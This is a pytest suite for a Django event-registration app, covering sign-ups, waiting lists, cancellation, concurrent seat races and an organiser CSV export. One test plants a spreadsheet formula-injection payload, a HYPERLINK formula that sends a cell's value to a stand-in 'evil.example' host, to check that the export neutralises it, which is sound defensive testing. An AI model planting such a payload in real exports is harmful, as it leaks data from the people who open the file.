"""Registering for events, the waiting list, cancelling, the race for the last seat, and the
organisers' participant list and CSV."""

import csv
import io
import threading
from datetime import timedelta

import pytest
from django.contrib.messages import get_messages
from django.core import mail
from django.core.exceptions import ValidationError
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from events import services
from events.models import Registration, RegistrationStatus
from tests.harness import factories


def register_url(event):
    return reverse("events:register", kwargs={"slug": event.slug})


def cancel_url(event):
    return reverse("events:cancel_registration", kwargs={"slug": event.slug})


def messages_of(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def status_of(event, user) -> str:
    return (
        Registration.objects.exclude(status=RegistrationStatus.CANCELLED)
        .get(event=event, user=user)
        .status
    )


@pytest.fixture
def event(region_a):
    return factories.make_event(region_a, capacity=2)


# --- registering --------------------------------------------------------------------------


def test_stakeholder_registers_and_gets_a_confirmed_seat(login, stakeholder, event):
    response = login(stakeholder).post(register_url(event))
    assert response.status_code == 302
    assert response["Location"] == event.get_absolute_url()
    assert messages_of(response) == ["You are registered."]
    assert status_of(event, stakeholder) == RegistrationStatus.CONFIRMED


def test_registration_when_full_goes_to_the_waiting_list_with_its_position(login, region_a):
    event = factories.make_event(region_a, capacity=1)
    services.registration_create(event=event, user=factories.make_user())
    services.registration_create(event=event, user=factories.make_user())
    late = factories.make_user()
    response = login(late).post(register_url(event))
    assert messages_of(response) == ["The event is full: you are on the waiting list (position 2)."]
    assert status_of(event, late) == RegistrationStatus.WAITING


def test_anonymous_visitor_is_sent_to_sign_in_and_nothing_is_registered(client, event):
    response = client.post(register_url(event))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
    assert not Registration.objects.exists()


def test_register_for_an_unpublished_event_is_not_found_for_outsiders(login, region_a, outsider):
    draft = factories.make_event(region_a, published=False)
    assert login(outsider).post(register_url(draft)).status_code == 404


def test_register_only_accepts_post(login, stakeholder, event):
    assert login(stakeholder).get(register_url(event)).status_code == 405


@pytest.mark.parametrize(
    "closed",
    [
        {"registration_deadline": timezone.now() - timedelta(days=1)},
        {"capacity": None},
        {"status": "cancelled"},
        {"starts_at": timezone.now() - timedelta(days=1)},
    ],
    ids=["deadline-passed", "no-registration", "cancelled", "already-started"],
)
def test_registration_when_closed_is_refused_with_a_message(login, stakeholder, region_a, closed):
    event = factories.make_event(region_a, **closed)
    response = login(stakeholder).post(register_url(event))
    assert response.status_code == 302
    assert messages_of(response) == ["Registration for this event is closed."]
    assert not Registration.objects.exists()


def test_registering_twice_is_refused_with_a_message(login, stakeholder, event):
    client = login(stakeholder)
    client.post(register_url(event))
    response = client.post(register_url(event))
    assert response.status_code == 302
    assert messages_of(response)[-1] == "You are already registered for this event."
    assert Registration.objects.filter(user=stakeholder).count() == 1


def test_person_who_cancelled_can_register_again(login, stakeholder, event):
    client = login(stakeholder)
    client.post(register_url(event))
    client.post(cancel_url(event))
    client.post(register_url(event))
    assert status_of(event, stakeholder) == RegistrationStatus.CONFIRMED


# --- cancelling ---------------------------------------------------------------------------


def test_cancel_frees_the_seat_for_the_first_waiting_who_is_emailed(
    login, region_a, stakeholder, django_capture_on_commit_callbacks
):
    event = factories.make_event(region_a, capacity=1, title="Port visit")
    services.registration_create(event=event, user=stakeholder)
    first = factories.make_user("first@example.org")
    second = factories.make_user("second@example.org")
    services.registration_create(event=event, user=first)
    services.registration_create(event=event, user=second)
    with django_capture_on_commit_callbacks(execute=True):
        response = login(stakeholder).post(cancel_url(event))
    assert response.status_code == 302
    assert messages_of(response) == ["Your registration is cancelled."]
    assert status_of(event, first) == RegistrationStatus.CONFIRMED
    assert status_of(event, second) == RegistrationStatus.WAITING
    assert [message.to for message in mail.outbox] == [["first@example.org"]]
    assert "Port visit" in mail.outbox[0].subject


def test_cancelling_a_waiting_place_promotes_nobody_and_sends_nothing(
    login, region_a, django_capture_on_commit_callbacks
):
    event = factories.make_event(region_a, capacity=1)
    seated, waiting, behind = (factories.make_user() for _ in range(3))
    for user in (seated, waiting, behind):
        services.registration_create(event=event, user=user)
    with django_capture_on_commit_callbacks(execute=True):
        login(waiting).post(cancel_url(event))
    assert status_of(event, behind) == RegistrationStatus.WAITING
    assert mail.outbox == []


def test_cancel_without_a_registration_is_not_found(login, stakeholder, event):
    assert login(stakeholder).post(cancel_url(event)).status_code == 404


# --- the race for the last seat -----------------------------------------------------------


def _at_once(functions) -> list:
    """Run the functions in threads released together; return each one's result or error."""
    barrier = threading.Barrier(len(functions))
    results = [None] * len(functions)

    def run(index, function):
        try:
            barrier.wait()
            results[index] = function()
        except Exception as error:  # the test inspects it
            results[index] = error
        finally:
            connection.close()

    threads = [threading.Thread(target=run, args=pair) for pair in enumerate(functions)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    return results


@pytest.mark.django_db(transaction=True)
def test_two_people_taking_the_last_seat_at_once_get_one_seat_and_one_waiting_place(region_a):
    event = factories.make_event(region_a, capacity=1)
    first, second = factories.make_user(), factories.make_user()
    results = _at_once(
        [
            lambda: services.registration_create(event=event, user=first),
            lambda: services.registration_create(event=event, user=second),
        ]
    )
    assert all(isinstance(result, Registration) for result in results), results
    assert sorted(result.status for result in results) == [
        RegistrationStatus.CONFIRMED,
        RegistrationStatus.WAITING,
    ]
    assert event.registrations.filter(status=RegistrationStatus.CONFIRMED).count() == 1


@pytest.mark.django_db(transaction=True)
def test_the_same_person_registering_twice_at_once_gets_one_registration(region_a):
    event = factories.make_event(region_a, capacity=5)
    person = factories.make_user()
    results = _at_once([lambda: services.registration_create(event=event, user=person)] * 2)
    assert sorted(type(result).__name__ for result in results) == [
        "Registration",
        "ValidationError",
    ], results
    assert event.registrations.count() == 1


@pytest.mark.django_db(transaction=True)
def test_two_clients_posting_for_the_last_seat_at_once_never_get_a_server_error(region_a):
    event = factories.make_event(region_a, capacity=1)
    clients = []
    for _ in range(2):
        client = Client()
        client.force_login(factories.make_user())
        clients.append(client)
    url = register_url(event)
    responses = _at_once([lambda client=client: client.post(url) for client in clients])
    assert [getattr(response, "status_code", response) for response in responses] == [302, 302]
    assert sorted(messages_of(response)[0] for response in responses) == [
        "The event is full: you are on the waiting list (position 1).",
        "You are registered.",
    ]
    assert event.registrations.filter(status=RegistrationStatus.CONFIRMED).count() == 1


def test_service_refuses_a_closed_event_with_a_validation_error(region_a, stakeholder):
    event = factories.make_event(region_a, published=False)
    with pytest.raises(ValidationError):
        services.registration_create(event=event, user=stakeholder)


# --- participants, for the organisers -----------------------------------------------------


def participants_url(event):
    return reverse("events:participants", kwargs={"slug": event.slug})


def csv_url(event):
    return reverse("events:participants_csv", kwargs={"slug": event.slug})


@pytest.fixture
def full_event(region_a):
    event = factories.make_event(region_a, capacity=1)
    services.registration_create(
        event=event, user=factories.make_user("ada@example.org", first_name="Ada", last_name="Lo")
    )
    services.registration_create(
        event=event, user=factories.make_user("ben@example.org", first_name="Ben")
    )
    return event


@pytest.mark.parametrize("role", ["owner", "coordinator"])
def test_organisers_see_the_participants_with_status_order_and_counts(
    login, user_of_role, role, full_event
):
    response = login(user_of_role(role)).get(participants_url(full_event))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Ada Lo" in page
    assert "ada@example.org" in page
    assert "Ben" in page
    assert "On the waiting list" in page
    assert "1 confirmed" in page
    assert "1 on the waiting list" in page
    assert [row.waiting_position for row in response.context["participants"]] == [None, 1]


@pytest.mark.parametrize("role", ["stakeholder", "colleague", "outsider"])
def test_other_signed_in_users_are_refused_the_participants(login, user_of_role, role, full_event):
    assert login(user_of_role(role)).get(participants_url(full_event)).status_code == 403
    assert login(user_of_role(role)).get(csv_url(full_event)).status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in_for_the_participants(client, full_event):
    assert "/accounts/login/" in client.get(participants_url(full_event))["Location"]
    assert "/accounts/login/" in client.get(csv_url(full_event))["Location"]


def test_participants_of_an_unpublished_event_are_not_found_for_other_regions(
    login, region_a, outsider
):
    draft = factories.make_event(region_a, published=False)
    assert login(outsider).get(participants_url(draft)).status_code == 404
    assert login(outsider).get(csv_url(draft)).status_code == 404


def test_participants_page_query_count_does_not_grow_with_participants(
    login, owner, region_a, django_assert_max_num_queries
):
    event = factories.make_event(region_a, capacity=3)
    client = login(owner)
    for _ in range(2):
        services.registration_create(event=event, user=factories.make_user())
    with django_assert_max_num_queries(30) as few:
        client.get(participants_url(event))
    for _ in range(10):
        services.registration_create(event=event, user=factories.make_user())
    with django_assert_max_num_queries(len(few.captured_queries)):
        client.get(participants_url(event))


def read_csv(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_csv_is_utf8_with_bom_and_lists_every_participant(login, owner, full_event):
    response = login(owner).get(csv_url(full_event))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    header, *rows = read_csv(response)
    assert header[:4] == ["Name", "Email", "Status", "Waiting-list position"]
    assert [row[:4] for row in rows] == [
        ["Ada Lo", "ada@example.org", "Confirmed", ""],
        ["Ben", "ben@example.org", "On the waiting list", "1"],
    ]


def test_csv_neutralises_formula_injection_in_names(login, owner, region_a):
    event = factories.make_event(region_a)
    attacker = factories.make_user(
        "attacker@example.org",
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    )
    services.registration_create(event=event, user=attacker)
    _, row = read_csv(login(owner).get(csv_url(event)))
    assert row[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_starting_like_a_formula_are_prefixed_with_a_quote(start):
    from events.exports import neutralise

    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Ada") == "Ada"


# --- the registration box on the event page -----------------------------------------------


def test_event_page_offers_registration_and_then_shows_it_with_a_cancel_button(
    login, stakeholder, event
):
    client = login(stakeholder)
    page = client.get(event.get_absolute_url()).content.decode()
    assert register_url(event) in page
    assert "2 seats left" in page
    page = client.post(register_url(event), follow=True).content.decode()
    assert "You are registered" in page
    assert cancel_url(event) in page
    assert "Cancel my registration" in page


def test_event_page_shows_the_waiting_list_position(login, region_a):
    event = factories.make_event(region_a, capacity=1)
    services.registration_create(event=event, user=factories.make_user())
    client = login(factories.make_user())
    page = client.post(register_url(event), follow=True).content.decode()
    assert "You are on the waiting list (position 1)" in page


def test_event_page_asks_visitors_to_sign_in_to_register(client, event):
    page = client.get(event.get_absolute_url()).content.decode()
    assert "Sign in to register" in page
    assert register_url(event) not in page


def test_event_page_says_when_registration_is_closed(login, stakeholder, region_a):
    event = factories.make_event(region_a, registration_deadline=timezone.now())
    page = login(stakeholder).get(event.get_absolute_url()).content.decode()
    assert "Registration is closed." in page


def test_event_page_links_organisers_to_the_participants(login, owner, stakeholder, event):
    assert participants_url(event) in login(owner).get(event.get_absolute_url()).content.decode()
    page = login(stakeholder).get(event.get_absolute_url()).content.decode()
    assert participants_url(event) not in page
